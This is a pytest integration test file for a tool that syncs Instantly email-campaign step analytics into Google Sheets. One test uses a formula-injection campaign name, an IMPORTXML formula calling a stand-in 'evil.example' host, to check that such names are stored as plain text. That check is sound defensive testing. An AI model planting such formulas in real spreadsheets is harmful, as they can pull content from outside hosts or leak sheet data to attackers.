"""The whole pipeline with real gspread/google-auth/requests against the local fakes."""

from __future__ import annotations

import datetime as dt

import pytest

from sheets_sync.errors import (
    InstantlyMalformedResponse,
    SheetNotShared,
    SpreadsheetNotFound,
)
from sheets_sync.pipeline.refresh import SyncSpec, run_sync
from sheets_sync.pipeline.render import FIRST_DATA_ROW
from tests.plugin_fakes import SERVICE_ACCOUNT_EMAIL

NOW = dt.datetime(2026, 11, 27, 8, 0, tzinfo=dt.UTC)
DAY = dt.date(2026, 11, 20)
TAB = "Instantly steps"


@pytest.fixture
def campaign(workspace):
    cid = workspace.add_campaign(
        "Q4 outbound",
        steps=[
            [{"subject": "Hi {{firstName}}", "body": "a"}, {"subject": "Quick q", "body": "b"}],
            [{"subject": "Following up", "body": "c"}],
        ],
    )
    rows = [
        (0, 0, 200, 20), (0, 1, 180, 9), (1, 0, 150, 3),
        (2, 0, 40, 1),  # past the 2-step main sequence: a subsequence step
        (None, None, 0, 4),
    ]
    for step, variant, sent, replies in rows:
        workspace.record(cid, DAY, step, variant, sent=sent, unique_replies=replies,
                         replies=replies, unique_opened=sent // 2, opened=sent)
    return cid


def sync(instantly, sheets, spreadsheet_id, **kw):
    spec = SyncSpec(spreadsheet_id=spreadsheet_id, worksheet_title=TAB, **kw)
    return run_sync(spec, instantly=instantly, sheets=sheets, now=NOW)


def table(fake_sheets, spreadsheet_id, tab=TAB):
    return fake_sheets.values(spreadsheet_id, tab)


def test_first_sync_creates_a_labelled_tab_in_at_most_two_calls(
    fake_sheets, spreadsheet_id, instantly, sheets, campaign
):
    outcome = sync(instantly, sheets, spreadsheet_id, campaign_ids=(campaign,))
    assert outcome.tab_created
    assert outcome.sheets_calls <= 2
    assert fake_sheets.count("batchUpdate", spreadsheet_id) == 1
    grid = table(fake_sheets, spreadsheet_id)
    assert grid[0][0] == "Instantly step analytics: Q4 outbound"
    assert "Last synced: 2026-11-27 08:00 UTC" in grid[1][0]
    header = grid[FIRST_DATA_ROW - 1]
    assert header[:3] == ["Step", "Variant", "Sent"]
    labels = [tuple(r[:2]) for r in grid[FIRST_DATA_ROW:]]
    assert labels == [
        ("Step 1", "A"), ("Step 1", "B"), ("Step 2", "A"), ("Subsequence step 1", "A"),
        ("No step (not attributed)", "No variant (not attributed)"), ("Total", None),
    ]
    sent_col = header.index("Sent")
    assert grid[FIRST_DATA_ROW][sent_col] == 200
    rate_col = header.index("Reply rate (unique replies / sent)")
    assert grid[FIRST_DATA_ROW][rate_col] == pytest.approx(0.1)
    # Unattributed replies are kept, and the rate over 0 sent is an empty cell.
    assert grid[FIRST_DATA_ROW + 4][header.index("Replies")] == 4
    assert grid[FIRST_DATA_ROW + 4][rate_col] in ("", None)
    props = fake_sheets.sheet_properties(spreadsheet_id, title=TAB)
    assert props["gridProperties"]["frozenRowCount"] == FIRST_DATA_ROW
    rate_cell = fake_sheets.cell(spreadsheet_id, TAB, f"{chr(65 + rate_col)}{FIRST_DATA_ROW + 1}")
    assert rate_cell["userEnteredFormat"]["numberFormat"]["type"] == "PERCENT"
    header_cell = fake_sheets.cell(spreadsheet_id, TAB, "A3")
    assert header_cell["userEnteredFormat"]["textFormat"]["bold"] is True


def test_steady_state_is_one_sheets_call_and_one_instantly_call_per_campaign_plus_overview(
    fake_sheets, fake_instantly, spreadsheet_id, instantly, sheets, workspace, campaign
):
    other = workspace.add_campaign("Second")
    workspace.record(other, DAY, 0, 0, sent=10)
    first = sync(instantly, sheets, spreadsheet_id, campaign_ids=(campaign, other))
    fake_sheets.reset_calls()
    fake_instantly.reset_calls()
    again = sync(instantly, sheets, spreadsheet_id, campaign_ids=(campaign, other),
                 sheet_id=first.sheet_id, known_campaigns=first.campaigns)
    assert again.sheets_calls == 1
    assert fake_sheets.count() == 1  # no token exchange either: the token is reused
    # One steps call per campaign, and one overview call for both (the totals check).
    assert again.instantly_calls == 3
    assert fake_instantly.count() == 3
    assert fake_instantly.count("/analytics/steps") == 2
    grid = table(fake_sheets, spreadsheet_id)
    assert grid[FIRST_DATA_ROW - 1][0] == "Campaign"
    assert {r[0] for r in grid[FIRST_DATA_ROW:-1]} == {"Q4 outbound", "Second"}


def test_all_campaigns_combined_is_one_steps_call_and_one_overview_call(
    fake_sheets, fake_instantly, spreadsheet_id, instantly, sheets, workspace, campaign
):
    fake_instantly.reset_calls()
    outcome = sync(instantly, sheets, spreadsheet_id)
    assert outcome.instantly_calls == 2
    assert [c.path.rsplit("/", 1)[-1] for c in fake_instantly.calls] == ["steps", "analytics"]
    grid = table(fake_sheets, spreadsheet_id)
    assert grid[0][0] == "Instantly step analytics: all campaigns combined"


def test_rows_left_over_from_a_longer_report_are_cleared(
    fake_sheets, spreadsheet_id, instantly, sheets, workspace
):
    cid = workspace.add_campaign("Shrinking")
    for v in range(6):
        workspace.record(cid, DAY, 0, v, sent=10)
    workspace.record(cid, dt.date(2026, 11, 26), 0, 0, sent=5)
    first = sync(instantly, sheets, spreadsheet_id, campaign_ids=(cid,))
    assert len(table(fake_sheets, spreadsheet_id)) == FIRST_DATA_ROW + 7
    # A shorter date range: only one variant sent on that day.
    sync(instantly, sheets, spreadsheet_id, campaign_ids=(cid,), sheet_id=first.sheet_id,
         date_range={"start": "2026-11-26", "end": "2026-11-26"})
    grid = table(fake_sheets, spreadsheet_id)
    assert [r[:2] for r in grid[FIRST_DATA_ROW:]] == [["Step 1", "A"], ["Total", None]]
    assert grid[FIRST_DATA_ROW][2] == 5


def test_thirty_variants_are_lettered_like_columns(
    fake_sheets, spreadsheet_id, instantly, sheets, workspace
):
    cid = workspace.add_campaign("Wide")
    for v in range(30):
        workspace.record(cid, DAY, 0, v, sent=1)
    sync(instantly, sheets, spreadsheet_id, campaign_ids=(cid,))
    letters = [r[1] for r in table(fake_sheets, spreadsheet_id)[FIRST_DATA_ROW:-1]]
    assert letters[:3] == ["A", "B", "C"]
    assert letters[25:] == ["Z", "AA", "AB", "AC", "AD"]


def test_formula_looking_campaign_names_stay_text(
    fake_sheets, spreadsheet_id, instantly, sheets, workspace
):
    evil = '=IMPORTXML("http://evil.example","//a")'
    a = workspace.add_campaign(evil)
    b = workspace.add_campaign("Normal")
    workspace.record(a, DAY, 0, 0, sent=1)
    workspace.record(b, DAY, 0, 0, sent=1)
    sync(instantly, sheets, spreadsheet_id, campaign_ids=(a, b))
    cell = fake_sheets.cell(spreadsheet_id, TAB, f"A{FIRST_DATA_ROW + 1}")
    assert cell["userEnteredValue"] == {"stringValue": evil}
    assert table(fake_sheets, spreadsheet_id)[FIRST_DATA_ROW][0] == evil


def test_renamed_tab_is_found_by_id(fake_sheets, spreadsheet_id, instantly, sheets, campaign):
    first = sync(instantly, sheets, spreadsheet_id, campaign_ids=(campaign,))
    fake_sheets.rename_sheet(spreadsheet_id, TAB, "Renamed by a teammate")
    fake_sheets.reset_calls()
    again = sync(instantly, sheets, spreadsheet_id, campaign_ids=(campaign,),
                 sheet_id=first.sheet_id, known_campaigns=first.campaigns)
    assert again.sheets_calls == 1
    assert again.sheet_id == first.sheet_id
    assert TAB not in fake_sheets.sheet_titles(spreadsheet_id)
    assert table(fake_sheets, spreadsheet_id, "Renamed by a teammate")[0][0].startswith(
        "Instantly step analytics"
    )


def test_deleted_tab_is_recreated(fake_sheets, spreadsheet_id, instantly, sheets, campaign):
    first = sync(instantly, sheets, spreadsheet_id, campaign_ids=(campaign,))
    fake_sheets.delete_sheet(spreadsheet_id, TAB)
    again = sync(instantly, sheets, spreadsheet_id, campaign_ids=(campaign,),
                 sheet_id=first.sheet_id, known_campaigns=first.campaigns)
    assert again.tab_created
    assert again.sheet_id != first.sheet_id
    assert again.sheets_calls == 3  # failed batch (nothing applied), re-read, create+write
    assert table(fake_sheets, spreadsheet_id)[FIRST_DATA_ROW][0] == "Step 1"


def test_existing_tab_with_that_title_is_adopted(
    fake_sheets, spreadsheet_id, instantly, sheets, campaign
):
    fake_sheets.add_sheet(spreadsheet_id, TAB, sheet_id=42)
    outcome = sync(instantly, sheets, spreadsheet_id, campaign_ids=(campaign,))
    assert not outcome.tab_created
    assert outcome.sheet_id == 42
    assert fake_sheets.sheet_titles(spreadsheet_id).count(TAB) == 1


def test_other_tabs_are_untouched(fake_sheets, spreadsheet_id, instantly, sheets, campaign):
    fake_sheets.set_cell(spreadsheet_id, "Sheet1", "B2", "teammate's work")
    before = fake_sheets.values(spreadsheet_id, "Sheet1")
    sync(instantly, sheets, spreadsheet_id, campaign_ids=(campaign,))
    assert fake_sheets.values(spreadsheet_id, "Sheet1") == before


def test_unshared_sheet_names_the_service_account(fake_sheets, instantly, sheets, campaign):
    private = fake_sheets.create_spreadsheet("Private", shared_with=())
    with pytest.raises(SheetNotShared) as err:
        sync(instantly, sheets, private, campaign_ids=(campaign,))
    assert SERVICE_ACCOUNT_EMAIL in err.value.message
    assert "Editor" in err.value.message


def test_unknown_spreadsheet_is_reported(fake_sheets, instantly, sheets, campaign):
    with pytest.raises(SpreadsheetNotFound):
        sync(instantly, sheets, "1" * 44, campaign_ids=(campaign,))


def test_quota_429_then_success(fake_sheets, spreadsheet_id, instantly, sheets, campaign):
    fake_sheets.fail_next("write", 429, headers={"Retry-After": "0"})
    outcome = sync(instantly, sheets, spreadsheet_id, campaign_ids=(campaign,))
    assert outcome.rows_written == 6
    assert fake_sheets.status_counts().get(429) == 1
    assert table(fake_sheets, spreadsheet_id)[FIRST_DATA_ROW][0] == "Step 1"


@pytest.mark.parametrize("fault", ["truncate", "missing_field", "wrong_type"])
def test_malformed_instantly_response_leaves_the_sheet_exactly_as_it_was(
    fault, fake_sheets, fake_instantly, spreadsheet_id, instantly, sheets, campaign
):
    first = sync(instantly, sheets, spreadsheet_id, campaign_ids=(campaign,))
    before = fake_sheets.snapshot(spreadsheet_id)
    fake_sheets.reset_calls()
    if fault == "truncate":
        fake_instantly.truncate_next(count=5, path_contains="analytics")
    elif fault == "missing_field":
        fake_instantly.malform_next([{"step": "0", "variant": "0"}], count=5,
                                    path_contains="analytics")
    else:
        row = {"step": "0", "variant": "0", "sent": "many", "opened": 0, "unique_opened": 0,
               "replies": 0, "unique_replies": 0, "replies_automatic": 0,
               "unique_replies_automatic": 0, "clicks": 0, "unique_clicks": 0}
        fake_instantly.malform_next([row], count=5, path_contains="analytics")
    with pytest.raises(InstantlyMalformedResponse) as err:
        sync(instantly, sheets, spreadsheet_id, campaign_ids=(campaign,),
             sheet_id=first.sheet_id, known_campaigns=first.campaigns)
    assert "sheet was left as it was" in err.value.message
    assert fake_sheets.count() == 0
    assert fake_sheets.snapshot(spreadsheet_id) == before


def test_every_request_passes_discovery_validation(
    fake_sheets, spreadsheet_id, instantly, sheets, campaign
):
    """The fake rejects unknown fields with 400, so any success here means valid bodies."""
    sync(instantly, sheets, spreadsheet_id, campaign_ids=(campaign,), include_opportunities=True)
    assert fake_sheets.status_counts().get(400) is None
